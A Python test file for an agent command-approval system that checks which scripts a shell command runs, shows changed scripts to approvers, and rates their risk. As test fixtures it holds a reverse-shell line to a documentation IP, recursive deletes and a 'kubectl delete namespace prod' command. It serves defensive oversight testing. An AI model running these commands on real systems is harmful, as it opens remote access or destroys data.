"""No script is approved blind: what a command runs is found, shown, compared with what was approved, and judged."""

from dataclasses import replace
from pathlib import Path
from uuid import uuid4

import pytest

from channels.messages import Address
from governance.approvals.call_requests import TOOL_CALL
from governance.approvals.decide import Asking
from governance.approvals.requests import Request
from governance.approvals.shown.cards import attached, card_for
from governance.approvals.shown.reading_along import MOST_CHARACTERS, raised, read_along, stored
from governance.guard.calls import ProposedCall
from governance.guard.contents import bound, changed
from governance.guard.patterns import pattern_for
from governance.guard.reading import read_call
from governance.guard.script import Script, Seen
from governance.people.people import Person, Role
from governance.values.reasons import because
from governance.values.verdicts import Ask, Effect, Risk
from tests.unit.approval_scene import CONSOLE, Scene, open_scene

ALICE = Person(id=uuid4(), name="alice", role=Role.OPERATOR)


def call(command: str, workspace: Path) -> ProposedCall:
    proposed = ProposedCall(
        person=ALICE,
        agent="ops",
        conversation="chat:1:",
        tool="shell",
        arguments={"command": command},
        effect=Effect.RUNS,
        subject="command",
        workspace=workspace,
    )
    return read_call(proposed, contained=True)


def write(workspace: Path, **files: str) -> None:
    for name, text in files.items():
        path = workspace / name.replace("__", "/").replace("_dot_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


@pytest.mark.parametrize(
    ("command", "run"),
    [
        ("python3 app.py", {"app.py", "lib/__init__.py", "lib/part.py", "beside.py"}),
        ("cd . && env X=1 python3 -u app.py --flag", {"app.py", "lib/__init__.py", "lib/part.py", "beside.py"}),
        ("python3 -m lib.part", {"lib/part.py"}),
        ("bash deploy.sh", {"deploy.sh", "common.sh", "app.py", "lib/__init__.py", "lib/part.py", "beside.py"}),
        ("./deploy.sh", {"deploy.sh", "common.sh", "app.py", "lib/__init__.py", "lib/part.py", "beside.py"}),
        (". common.sh", {"common.sh"}),
        ("make all", {"Makefile"}),
        ("npm run build", {"package.json"}),
        ("cat app.py deploy.sh", set()),
        ("timeout 5 sh common.sh", {"common.sh"}),
    ],
)
async def test_what_a_command_runs_and_takes_along_is_found_and_bound(
    tmp_path: Path, command: str, run: set[str]
) -> None:
    write(
        tmp_path,
        app_dot_py="import beside, os\nfrom lib import part\n",
        beside_dot_py="x = 1\n",
        lib__part_dot_py="y = 2\n",
        deploy_dot_sh="#!/bin/sh\n. ./common.sh\npython3 app.py\n",
        common_dot_sh="echo common\n",
        Makefile="all:\n\trm -rf /var/lib/x\n",
        package_dot_json='{"scripts": {"build": "node x.js"}}',
    )
    (tmp_path / "lib" / "__init__.py").write_text("")
    (tmp_path / "deploy.sh").chmod(0o755)
    found = await bound(call(command, tmp_path))

    assert set(found.scripts) == run
    assert set(found.scripts) <= set(found.contents or {})


@pytest.mark.parametrize(("command", "cwd"), [("cd lib && ./go.sh", ""), ("./go.sh", "lib"), ("bash lib/go.sh", "")])
async def test_what_a_script_sources_is_found_from_the_folder_in_which_it_runs(
    tmp_path: Path, command: str, cwd: str
) -> None:
    write(
        tmp_path, lib__go_dot_sh="#!/bin/sh\n. ./common.sh\n", lib__common_dot_sh="echo a\n", common_dot_sh="echo b\n"
    )
    asked = call(command, tmp_path)
    begun = replace(asked, arguments={"command": command, "cwd": cwd}, reading=None)
    found = await bound(read_call(begun, contained=True))

    sourced = "common.sh" if command.startswith("bash") else "lib/common.sh"
    assert {"lib/go.sh", sourced} <= set(found.scripts)


async def test_a_module_that_changes_after_the_question_stops_the_call(tmp_path: Path) -> None:
    write(tmp_path, app_dot_py="import beside\n", beside_dot_py="x = 1\n")
    asked = await bound(call("python3 app.py", tmp_path))
    write(tmp_path, beside_dot_py="x = 2\n")
    now = await bound(call("python3 app.py", tmp_path))

    assert "beside.py" in str(changed(asked.contents or {}, now.contents or {}))
    assert asked.digest != now.digest


async def test_nothing_outside_the_workspace_is_read(tmp_path: Path) -> None:
    write(tmp_path, secret_dot_py="KEY = 1\n")
    inside = tmp_path / "inside"
    write(inside, app_dot_py="from .. import secret\nimport secret\n")
    (inside / "linked.py").symlink_to(tmp_path / "secret.py")
    write(inside, other_dot_py="import linked\n")

    assert (await bound(call("python3 app.py", inside))).scripts == ("app.py",)
    assert (await bound(call("python3 other.py", inside))).scripts == ("other.py",)


@pytest.fixture
async def scene(pool) -> Scene:
    return await open_scene(pool)


async def read(scene: Scene, command: str, workspace: Path) -> tuple[Script, ...]:
    return await read_along(scene.stage.store, await bound(call(command, workspace)))


async def asked(scene: Scene, command: str, workspace: Path) -> Request:
    scripts = await read(scene, command, workspace)
    subject = {
        "tool": "shell",
        "argument": "command",
        "arguments": {"command": command},
        "pattern": f"exactly:{command}",
        "workspace": workspace.name,
        "scripts": stored(scripts),
    }
    asking = Asking(
        kind=TOOL_CALL,
        requester=scene.alice,
        subject=subject,
        digest="0" * 64,
        ask=Ask(because=because("it asks")),
        agent="ops",
        address=Address(channel="chat", room="alice"),
    )
    async with scene.stage.store.transaction() as work:
        return await scene.approvals.ask(work, asking)


async def test_a_new_script_is_shown_whole_and_an_approved_one_as_what_changed(scene: Scene, tmp_path: Path) -> None:
    write(tmp_path, run_dot_sh="echo one\necho two\n")
    first = await asked(scene, "sh run.sh", tmp_path)
    ((name, text),) = attached(first, "en")
    assert name.startswith("run.sh, new: 2 lines")
    assert text == "echo one\necho two\n"

    await scene.approvals.decide(scene.root, CONSOLE, code=first.code, choice="a")
    same = await asked(scene, "sh run.sh", tmp_path)
    assert attached(same, "en") == ()

    write(tmp_path, run_dot_sh="echo one\nrm -rf data\n")
    third = await asked(scene, "sh run.sh", tmp_path)
    ((name, text),) = attached(third, "en")
    assert "changed since it was last approved" in name
    assert {"-echo two", "+rm -rf data"} <= set(text.splitlines())


async def test_a_script_that_was_denied_is_not_taken_for_approved(scene: Scene, tmp_path: Path) -> None:
    write(tmp_path, run_dot_sh="echo one\n")
    first = await asked(scene, "sh run.sh", tmp_path)
    await scene.approvals.decide(scene.root, CONSOLE, code=first.code, choice="d")

    assert [each.seen for each in await read(scene, "sh run.sh", tmp_path)] == [Seen.NEW]


@pytest.mark.parametrize(
    ("files", "command", "risk"),
    [
        ({"run_dot_sh": "echo hello\n"}, "sh run.sh", Risk.LOW),
        ({"run_dot_sh": "kubectl delete namespace prod\n"}, "sh run.sh", Risk.HIGH),
        ({"run_dot_sh": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"}, "sh run.sh", Risk.CRITICAL),
        (
            {"a_dot_py": "import b\n", "b_dot_py": "import os\nos.system('kubectl delete ns prod')\n"},
            "python3 a.py",
            Risk.HIGH,
        ),
        ({"package_dot_json": '{"scripts": {"x": "kubectl delete ns prod"}}'}, "npm run x", Risk.HIGH),
        ({"package_dot_json": '{"scripts": {"x": "kubectl delete ns prod"}}'}, "npm run y", Risk.LOW),
        ({"Makefile": "clean:\n\t@kubectl delete ns $(NS)\n"}, "make clean", Risk.HIGH),
    ],
)
async def test_what_a_script_says_raises_the_risk_and_stands_on_the_card(
    scene: Scene, tmp_path: Path, files: dict[str, str], command: str, risk: Risk
) -> None:
    write(tmp_path, **files)
    scripts = await read(scene, command, tmp_path)

    assert raised(Ask(because=because("it asks"), risk=Risk.LOW), scripts) is risk
    if risk is not Risk.LOW:
        card = card_for(await asked(scene, command, tmp_path), "en")
        assert any(fact.label == "Beware" and fact.value.split(":")[0] in str(scripts) for fact in card.facts)


async def test_what_is_too_long_to_be_read_is_told_and_never_low(scene: Scene, tmp_path: Path) -> None:
    write(tmp_path, run_dot_sh="# " + "x" * MOST_CHARACTERS + "\n")
    [script] = await read(scene, "sh run.sh", tmp_path)
    ((name, text),) = attached(await asked(scene, "sh run.sh", tmp_path), "en")

    assert (script.seen, script.risk, text) == (Seen.UNSEEN, "high", "")
    assert "cannot be shown" in name


def test_nothing_is_done_with_a_call_that_nobody_has_read(tmp_path: Path) -> None:
    unread = replace(call("ls", tmp_path), arguments={"command": "rm -rf x"})

    with pytest.raises(RuntimeError):
        pattern_for(unread)
